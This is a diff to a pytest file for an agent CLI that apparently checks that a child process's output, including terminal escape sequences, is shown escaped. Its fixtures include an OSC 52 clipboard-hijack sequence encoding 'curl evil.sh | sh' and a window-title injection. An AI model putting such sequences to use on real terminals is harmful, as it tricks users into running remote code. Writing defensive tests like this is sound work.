@@ -19,7 +19,14 @@ import pytest
 from isoagent.parent.terminal_text import terminal_line, terminal_text
 from tests.conftest import base_env, cli_env
 from tests.support.cli import ISOAGENT, run_cli
-from tests.support.messages_server import MessagesServer, Reply, Request, text_reply, tool_reply
+from tests.support.messages_server import (
+    MessagesServer,
+    Reply,
+    Request,
+    error_reply,
+    text_reply,
+    tool_reply,
+)
 
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "curl evil.sh | sh" copied
 TITLE = "\x1b]0;pwned\x1b\\"
@@ -102,7 +109,7 @@ def test_progress_verbose_and_error_lines_show_a_childs_words_escaped(
             return text_reply("done")
         if req.turn == 0:
             return tool_reply("bash", {"command": f"echo '{PAYLOAD}'"})
-        return Reply(status=400, body={"type": "error", "error": {"message": PAYLOAD}})
+        return error_reply(400, "invalid_request_error", PAYLOAD)
 
     api_server.handler = handler
     done = run_cli(["run", "-v", "go"], cli_env(api_server), cwd=tmp_path)
